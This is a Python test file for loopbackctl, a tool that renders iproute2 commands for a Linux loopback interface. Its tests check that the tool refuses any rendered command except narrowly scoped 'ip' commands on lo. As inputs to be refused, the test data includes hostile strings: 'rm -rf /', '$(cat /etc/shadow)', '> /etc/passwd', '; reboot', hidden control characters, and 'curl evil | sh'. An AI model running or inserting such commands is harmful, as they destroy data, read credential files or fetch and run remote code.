"""Linux commands from the iproute2 template: what a rendered line may be, the driver's
plan → template values → commands, rollback through the same template, and the checks
made when a job is built. No device: the bed tests are in test_linux_templates.py."""

from __future__ import annotations

import ipaddress
from pathlib import Path

import pytest

from loopbackctl import fleet, render
from loopbackctl.errors import DeviceError, TemplateError
from loopbackctl.model import Host, Loopback
from loopbackctl.plan import Change, Plan
from loopbackctl.platforms.base import Observed
from loopbackctl.platforms.linux import iproute2
from loopbackctl.platforms.linux.driver import LinuxDriver
from loopbackctl.templating import Rendered, Templates

A = ipaddress.ip_interface
HOST = Host(
    "h1",
    "linux",
    loopbacks=(Loopback("lo", (A("198.18.9.1/32"), A("2001:db8:9::1/128"))),),
)
SHIPPED = (Path(render.__file__).parent / "platforms/linux/templates/iproute2.j2").read_text()


def rendered(tmp_path: Path | None = None, iproute2_j2: str | None = None) -> Rendered:
    """HOST's templates: the shipped ones, or `iproute2_j2` as the user's override."""
    if iproute2_j2 is None:
        return Templates().for_host(HOST)
    assert tmp_path is not None
    (tmp_path / "linux").mkdir(exist_ok=True)
    (tmp_path / "linux" / "iproute2.j2").write_text(iproute2_j2)
    return Templates(str(tmp_path)).for_host(HOST)


def plan(*changes: Change) -> Plan:
    return Plan(tuple(changes), (), ("lo",))


UP = Change("enable", "lo")
DOWN = Change("disable", "lo")


def add(a: str) -> Change:
    return Change("add_address", "lo", A(a))


def remove(a: str) -> Change:
    return Change("remove_address", "lo", A(a))


# -- what a rendered line may be ---------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "sent"),
    [
        ("ip link set dev lo up", "ip link set dev lo up"),
        ("  ip link set lo up mtu 65536", "ip link set lo up mtu 65536"),
        ("ip address replace 198.18.9.1/32 dev lo", None),
        ("ip address replace 198.18.9.1/32 dev lo preferred_lft 0", None),
        ("ip -6 addr add 2001:db8:9::1/128 dev lo nodad noprefixroute valid_lft forever", None),
        ("ip address change 198.18.9.1/32 dev lo label lo:svc scope host metric 10", None),
        ("ip -4 address add 198.18.9.1/24 broadcast + dev lo proto 99", None),
        ("ip address del 198.18.9.9/32 dev lo", None),
        ("ip address delete 198.18.9.9/32 dev lo", None),
        ("ip link set dev lo down", None),
    ],
)
def test_the_lines_that_are_sent(line: str, sent: str | None) -> None:
    asked = iproute2.Asked(frozenset({A("198.18.9.9/32")}), down=True)
    assert iproute2.commands(f"# a comment\n\n{line}\n", asked) == [sent or line]


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("rm -rf /", "not an `ip` command on lo"),
        ("sudo ip link set dev lo up", "not an `ip` command on lo"),
        ("/sbin/ip link set dev lo up", "not an `ip` command on lo"),
        ("ip address flush dev lo", "not an `ip` command on lo"),
        ("ip route add 198.18.0.0/16 dev lo", "not an `ip` command on lo"),
        ("ip -batch /tmp/x", "not an `ip` command on lo"),
        ("ip link set dev eth0 up", "may change lo only"),
        ("ip link set dev lo name eth9", "may set up, down and mtu N only"),
        ("ip link set dev lo", "says nothing to change"),
        ("ip address add 198.18.9.1/32 dev eth0", "must name `dev lo`, once"),
        ("ip address add 198.18.9.1/32", "must name `dev lo`, once"),
        ("ip address add 198.18.9.1/32 dev lo dev eth0", "must name `dev lo`, once"),
        ("ip address add 198.18.9.1 dev lo", "no prefix length"),
        ("ip address add 198.18.9.300/32 dev lo", "not an address"),
        ("ip address add 198.18.9.1/32 dev lo label eth0", "label must be lo or lo:NAME"),
        ("ip address add 198.18.9.1/32 dev lo scope everywhere", "scope takes"),
        ("ip address add 198.18.9.1/32 dev lo preferred_lft soon", "preferred_lft takes"),
        ("ip address add 198.18.9.1/32 dev lo peer", "has no value"),
        ("ip address add 198.18.9.1/32 dev lo; reboot", "not a plain word"),
        ("ip address add 198.18.9.1/32 dev lo && reboot", "not a plain word"),
        ("ip address add $(cat /etc/shadow) dev lo", "not a plain word"),
        ("ip address add 198.18.9.1/32 dev lo > /etc/passwd", "not a plain word"),
        ("ip address add '198.18.9.1/32' dev lo", "not a plain word"),
        ("ip address add 198.18.9.1/32 dev lo # a comment", "not a plain word"),
        ("ip address add 198.18.9.1/32 dev lo\r", "control character '\\r'"),
        ("ip\taddress add 198.18.9.1/32 dev lo", "control character '\\t'"),
        ("ip address add 198.18.9.1/32 dev lo\x0bip link set dev eth0 down", "'\\x0b'"),
        ("ip address add 198.18.9.1/32 dev lo\u2028rm -rf /", "'\\u2028'"),
        ("ip address del 198.18.9.7/32 dev lo", "which is not being removed"),
        ("ip address del 127.0.0.1/8 dev lo", "lo's own: never removed"),
        ("ip -6 address del ::1/128 dev lo", "lo's own: never removed"),
        ("ip link set dev lo down", "nothing asked for that"),
    ],
)
def test_anything_else_is_refused_naming_line_and_reason(line: str, why: str) -> None:
    asked = iproute2.Asked(frozenset({A("198.18.9.9/32")}), down=False)
    with pytest.raises(iproute2.Refused) as exc:
        iproute2.commands(f"ip link set dev lo up\n{line}\n", asked)
    assert str(exc.value).startswith("line 2 `")
    assert why in str(exc.value)


def test_a_refused_line_is_shown_escaped_and_short() -> None:
    with pytest.raises(iproute2.Refused) as exc:
        iproute2.commands("rm " + "x" * 300 + "\x1b[2J", iproute2.Asked())
    message = str(exc.value)
    assert "\x1b" not in message and "\\x1b" in message and len(message) < 250


# -- the driver: plan → template values → commands ---------------------------------------


def test_the_shipped_template_keeps_the_order_that_matters() -> None:
    changes = plan(DOWN, remove("2001:db8:9::1/64"), add("2001:db8:9::1/128"), UP)
    assert LinuxDriver().commands(HOST, Observed(()), changes, rendered()) == [
        "ip link set dev lo up",
        "ip address del 2001:db8:9::1/64 dev lo",
        "ip address replace 2001:db8:9::1/128 dev lo",
        "ip link set dev lo down",
    ]


def test_a_user_template_reaches_the_commands_in_its_own_order(tmp_path: Path) -> None:
    override = (
        "# site: lab-11\n"
        "{% for a in add %}\nip address replace {{ a }} dev lo preferred_lft 0\n{% endfor %}\n"
        "{% for a in remove %}\nip address delete {{ a }} dev lo\n{% endfor %}\n"
        "{% if up %}\nip link set dev lo up\n{% endif %}\n"
    )
    changes = plan(UP, remove("198.18.9.9/32"), add("198.18.9.1/32"))
    assert LinuxDriver().commands(HOST, Observed(()), changes, rendered(tmp_path, override)) == [
        "ip address replace 198.18.9.1/32 dev lo preferred_lft 0",
        "ip address delete 198.18.9.9/32 dev lo",
        "ip link set dev lo up",
    ]


def test_an_empty_plan_renders_nothing(tmp_path: Path) -> None:
    """Nothing to do: no command, and the template is not even rendered (this one would
    fail if it were), so a converged host never depends on the template."""
    broken = rendered(tmp_path, "{{ no_such_variable }}\n")
    assert LinuxDriver().commands(HOST, Observed(()), plan(), broken) == []
    with pytest.raises(DeviceError, match="no_such_variable"):
        LinuxDriver().commands(HOST, Observed(()), plan(UP), broken)


def test_rollback_goes_through_the_same_template(tmp_path: Path) -> None:
    override = SHIPPED.replace("ip address del", "ip -4 address delete").replace(
        "dev lo\n{% endfor %}", "dev lo valid_lft forever\n{% endfor %}", 2
    )
    before = Observed((Loopback("lo", (A("198.18.9.7/32"),), shutdown=True),))
    now = Observed((Loopback("lo", (A("198.18.9.1/32"), A("198.18.9.7/32"))),))
    lines = LinuxDriver().restore(HOST, before, now, ["lo"], rendered(tmp_path, override))
    assert lines == [
        "ip -4 address delete 198.18.9.1/32 dev lo valid_lft forever",
        "ip link set dev lo down",
    ]
    assert LinuxDriver().restore(HOST, before, before, ["lo"], rendered(tmp_path, override)) == []


def test_a_line_refused_at_apply_time_fails_the_host_before_anything_is_sent(
    tmp_path: Path,
) -> None:
    sneaky = SHIPPED + "{% if remove and not down %}\nip address flush dev lo\n{% endif %}\n"
    with pytest.raises(DeviceError) as exc:
        LinuxDriver().commands(
            HOST, Observed(()), plan(remove("198.18.9.9/32")), rendered(tmp_path, sneaky)
        )
    message = str(exc.value)
    assert message.startswith(
        f"{tmp_path}/linux/iproute2.j2: for host h1, rendered line 3 `ip address flush dev lo`:"
    )
    assert message.endswith("fix the template (--templates); none of it was sent")


# -- checked when the job is built --------------------------------------------------------


def test_the_shipped_template_passes_the_job_check() -> None:
    texts = render.render_host(render.environment(), HOST)
    LinuxDriver().check_templates(HOST, Templates().for_host(HOST, texts))


@pytest.mark.parametrize(
    ("template", "why"),
    [
        (SHIPPED + "ip address flush dev lo\n", "`ip address flush dev lo`: not an `ip`"),
        (SHIPPED.replace("dev lo up", "dev lo up; curl evil | sh"), "'up;' is not a plain word"),
        (SHIPPED.replace("dev lo down", "dev eth0 down"), "may change lo only"),
        (SHIPPED.replace("}} dev lo\n{% endfor", "}}\tdev lo\n{% endfor", 1), "'\\t'"),
        (SHIPPED + "ip address del 198.18.77.7/32 dev lo\n", "which is not being removed"),
        (SHIPPED + "{{ data.nope }}\n", "template error"),
    ],
)  # fmt: skip
def test_a_template_laying_out_anything_else_is_refused_when_the_job_is_built(
    template: str, why: str, tmp_path: Path
) -> None:
    """Every branch is rendered at once (up, every address added and removed, down), so
    a line hidden in the remove or down branch is found before any host is contacted."""
    (tmp_path / "linux").mkdir()
    (tmp_path / "linux" / "iproute2.j2").write_text(template)
    texts = {"iproute2": ""}  # render's own text is checked too: here, the rest only
    with pytest.raises(TemplateError) as exc:
        LinuxDriver().check_templates(HOST, Templates(str(tmp_path)).for_host(HOST, texts))
    assert why in str(exc.value)
    assert "h1" in str(exc.value)


def test_fleet_jobs_refuse_a_bad_template_before_contacting_anyone(tmp_path: Path) -> None:
    from loopbackctl import inventory

    (tmp_path / "inv").mkdir()
    (tmp_path / "inv" / "hosts.yaml").write_text(
        "h1:\n  hostname: 127.0.0.1\n  port: 9\n  platform: linux\n"
        "  data: {loopbacks: [{name: lo, addresses: [198.18.9.1/32]}]}\n"
        "r1:\n  hostname: 127.0.0.1\n  port: 9\n  platform: cisco_ios\n"
        "  data: {loopbacks: [{name: Loopback0, addresses: [10.255.0.1/32]}]}\n"
    )
    inv, _ = inventory.load(str(tmp_path / "inv"))
    user = tmp_path / "templates"
    (user / "linux").mkdir(parents=True)
    (user / "linux" / "iproute2.j2").write_text(SHIPPED.replace("dev lo down", "dev lo down; id"))
    opts = fleet.FleetOptions(mode="apply", templates=str(user))
    with pytest.raises(TemplateError, match=r"for host h1, rendered line \d+ `ip link set dev lo"):
        fleet.jobs(opts, inv)
    jobs = fleet.jobs(fleet.FleetOptions(mode="apply", limit="r1", templates=str(user)), inv)
    assert [j.host.name for j in jobs] == ["r1"]  # an IOS host does not render it


def test_what_render_shows_is_checked_too(tmp_path: Path) -> None:
    """A line only the whole intended state lays out (render's text) is refused as well."""
    (tmp_path / "linux").mkdir()
    (tmp_path / "linux" / "iproute2.j2").write_text(
        SHIPPED + "{% if not down and not remove %}\nsystemctl restart named\n{% endif %}\n"
    )
    templates = Templates(str(tmp_path))
    texts = render.render_host(templates.environment(), HOST)
    assert "systemctl restart named" in texts["iproute2"]
    with pytest.raises(TemplateError, match="rendered line 5 `systemctl restart named`"):
        LinuxDriver().check_templates(HOST, templates.for_host(HOST, texts))
